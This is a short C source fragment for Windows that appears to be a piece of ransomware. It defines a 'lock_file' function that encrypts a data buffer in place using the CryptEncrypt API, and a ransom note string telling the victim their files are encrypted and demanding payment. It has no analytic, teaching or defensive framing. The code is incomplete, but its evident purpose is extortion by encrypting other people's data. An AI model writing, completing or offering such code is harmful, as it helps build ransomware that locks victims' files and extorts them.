#include <wincrypt.h>
void lock_file(HCRYPTKEY key, unsigned char *data, DWORD *len, DWORD cap) {
    CryptEncrypt(key, 0, TRUE, 0, data, len, cap);
}
const char note[] = "Your files are encrypted. Pay to recover them.";
